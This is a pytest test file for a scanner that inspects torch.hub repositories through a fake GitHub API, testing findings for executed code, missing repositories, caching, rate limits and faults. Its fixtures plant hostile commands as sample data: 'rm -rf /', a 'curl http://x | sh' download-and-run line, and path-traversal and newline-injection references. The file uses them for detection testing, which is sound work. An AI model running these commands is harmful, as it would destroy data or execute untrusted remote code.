"""torch.hub references through the remote pass against the loopback GitHub API: what hubconf.py would run,
missing and renamed repositories, the per-commit cache, rate limits, --offline and faults."""

from __future__ import annotations

import dataclasses
import time
from pathlib import Path

import pytest

from hubguard.findings import HubReference, Location, Region
from hubguard.hub.remote_pass import RemoteOptions, RemoteResult, run_remote_pass
from hubguard.hub.scanners import Scanners
from hubguard.hub.transport import RetryPolicy
from hubguard.revisions import classify_revision
from tests.fakehub import FakeGitHub
from tests.hub import doubles

HUBCONF = (
    b"dependencies = ['torch', 'yaml']\n"
    b"from models.net import build\n"
    b"import utils\n\n"
    b"def net(pretrained=False):\n    return build()\n"
)
FILES = {
    "hubconf.py": HUBCONF,
    "models/__init__.py": b"",
    "models/net.py": b"def build():\n    return 1\n",
    "utils.py": b"VALUE = 1\n",
    "train.py": b"import os\nos.system('rm -rf /')\n",  # not imported by hubconf.py: never runs on load
}


def reference(repo: str, ref: str | None = None, line: int = 4) -> HubReference:
    return HubReference(
        "torchhub", "github", repo, ref, classify_revision(ref), Location("app.py", Region(line, 7, line, 40)),
        "A7", runs_remote_code=True, loads_weights=False,
    )


@pytest.fixture
def options(fake_github: FakeGitHub, tmp_path: Path) -> RemoteOptions:
    return RemoteOptions(
        offline=False, timeout=5.0, cache_dir=tmp_path / "cache", endpoint=None, token=None, max_workers=4,
        retry=RetryPolicy(attempts=2, backoff=0.01, max_retry_after=1.0),
    )


def run(references: list[HubReference], options: RemoteOptions) -> RemoteResult:
    # The real code plan and import closure; a stand-in for the Semgrep run (test_github_end_to_end runs it).
    scanners = dataclasses.replace(Scanners.default(), scan_code=doubles.CodeScanner())
    return run_remote_pass(references, options, scanners=scanners)


def rules(result: RemoteResult) -> list[str]:
    return sorted(finding.rule_id for finding in result.findings)


def test_hubconf_and_the_modules_it_imports_are_what_runs(fake_github: FakeGitHub, options: RemoteOptions) -> None:
    sha = fake_github.add_repo("owner/repo", FILES)
    result = run([reference("owner/repo")], options)
    assert rules(result) == ["HG401"]
    (finding,) = result.findings
    assert finding.location.path == "app.py"
    assert finding.properties["hub"] == "torchhub" and finding.properties["resolvedRevision"] == sha
    assert finding.properties["codeFiles"] == ["hubconf.py", "models/net.py", "models/__init__.py", "utils.py"]
    assert [location.path for location in finding.related] == [
        f"{fake_github.api_url}/owner/repo/blob/{sha}/{path}" for path in finding.properties["codeFiles"]
    ]
    assert f"'owner/repo' at {sha[:12]} ships code this call would run: 'hubconf.py'" in finding.message
    assert "declares dependencies 'torch', 'yaml' (torch.hub only checks they import" in finding.message
    assert result.resolutions == [(reference("owner/repo"), sha)]


def test_dangerous_code_on_the_import_path_is_hg402(fake_github: FakeGitHub, options: RemoteOptions) -> None:
    files = FILES | {"utils.py": b"import os\nos.system('curl http://x | sh')\n"}
    sha = fake_github.add_repo("owner/repo", files)
    result = run([reference("owner/repo")], options)
    assert rules(result) == ["HG401", "HG402"]
    hg402 = next(f for f in result.findings if f.rule_id == "HG402")
    assert hg402.related[0].path == f"{fake_github.api_url}/owner/repo/blob/{sha}/utils.py"


def test_a_missing_repository_is_hg407(fake_github: FakeGitHub, options: RemoteOptions) -> None:
    result = run([reference("owner/ghost")], options)
    assert rules(result) == ["HG407"]
    assert "'owner/ghost' does not exist on the hub (or is private)" in result.findings[0].message


def test_a_renamed_repository_is_hg407_naming_the_new_one(fake_github: FakeGitHub, options: RemoteOptions) -> None:
    fake_github.add_repo("old/repo", FILES)
    fake_github.rename("old/repo", "new/repo")
    result = run([reference("old/repo", "main")], options)
    assert rules(result) == ["HG407"]
    message = result.findings[0].message
    assert "GitHub redirects old/repo to new/repo" in message and "anyone" in message
    assert result.findings[0].properties["movedTo"] == "new/repo"


def test_a_pinned_commit_is_served_from_the_cache(fake_github: FakeGitHub, options: RemoteOptions) -> None:
    sha = fake_github.add_repo("owner/repo", FILES)
    first = run([reference("owner/repo", sha)], options)
    assert rules(first) == ["HG401"] and fake_github.requests
    fake_github.reset_log()
    second = run([reference("owner/repo", sha)], options)
    assert fake_github.requests == [] and second.stats["cache_hits"] == 2  # the repository and its code
    assert [f.message for f in second.findings] == [f.message for f in first.findings]


def test_references_resolving_to_one_commit_share_its_requests(
    fake_github: FakeGitHub, options: RemoteOptions
) -> None:
    sha = fake_github.add_repo("owner/repo", FILES)
    result = run([reference("owner/repo", line=4), reference("owner/repo", sha, line=5)], options)
    assert rules(result) == ["HG401", "HG401"]
    paths = [request.path.split("/owner/repo/")[1].split("?")[0] for request in fake_github.requests]
    assert sorted(paths) == sorted(
        ["commits/refs%2Fheads%2Fmain", f"commits/{sha}", f"git/trees/{sha}"]
        + [f"contents/{path}" for path in ("hubconf.py", "models/net.py", "models/__init__.py", "utils.py")]
    )


def test_a_branch_is_resolved_again_on_every_run(fake_github: FakeGitHub, options: RemoteOptions) -> None:
    fake_github.add_repo("owner/repo", FILES)
    run([reference("owner/repo", "main")], options)
    moved = fake_github.push("owner/repo", {"utils.py": b"import os\nos.system('id')\n"})
    result = run([reference("owner/repo", "main")], options)
    assert rules(result) == ["HG401", "HG402"] and result.resolutions[0][1] == moved


def test_a_spent_rate_limit_is_hg405_with_the_reset_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with FakeGitHub(rate_limit=1) as github:
        monkeypatch.setenv("GITHUB_API_URL", github.api_url)
        github.add_repo("owner/repo", FILES)
        options = RemoteOptions(offline=False, timeout=5.0, cache_dir=tmp_path, endpoint=None, token=None)
        result = run([reference("owner/repo", "main")], options)
    assert rules(result) == ["HG405"]
    reset = time.strftime("%Y-%m-%d %H:%M:%S UTC", time.gmtime(github.reset_at))
    assert f"rate limit (1 requests an hour without a token) is used up until {reset}" in result.findings[0].message
    assert "GITHUB_TOKEN" in result.findings[0].message


def test_offline_never_contacts_github(fake_github: FakeGitHub, options: RemoteOptions) -> None:
    fake_github.add_repo("owner/repo", FILES)
    result = run([reference("owner/repo")], dataclasses.replace(options, offline=True))
    assert rules(result) == ["HG405"] and fake_github.requests == []


def test_hostile_references_are_notifications_without_requests(
    fake_github: FakeGitHub, options: RemoteOptions
) -> None:
    result = run([reference("owner/repo/../../x"), reference("owner/repo", "main\nX")], options)
    assert result.findings == [] and fake_github.requests == []
    assert len(result.notifications) == 2
    assert all(n.message.startswith("not looked up on torchhub") for n in result.notifications)


@pytest.mark.parametrize(
    ("where", "fault"),
    [
        ("/commits/", {"kind": "drip", "seconds": 0.05}),
        ("/commits/", {"kind": "delay", "seconds": 60}),
        ("/commits/", {"kind": "status", "status": 503}),
        ("/commits/", {"kind": "status", "status": 429, "retry_after": "nan"}),
        ("/commits/", {"kind": "rate_limit", "seconds": 3600}),
        ("/git/trees/", {"kind": "truncate"}),
        ("/git/trees/", {"kind": "oversize", "size": 40 * 2**20}),
        ("/contents/", {"kind": "drip", "seconds": 0.05}),
        ("/contents/", {"kind": "reset"}),
        ("/contents/", {"kind": "redirect"}),
    ],
)
def test_a_faulty_github_is_hg405_within_the_timeout(
    fake_github: FakeGitHub, options: RemoteOptions, where: str, fault: dict[str, object]
) -> None:
    fake_github.add_repo("owner/repo", FILES)
    fake_github.fault(where, **fault)  # type: ignore[arg-type]
    started = time.monotonic()
    result = run([reference("owner/repo")], dataclasses.replace(options, timeout=1.5))
    assert time.monotonic() - started < 1.5 + 3.0
    assert "HG405" in rules(result) or "HG408" in rules(result)
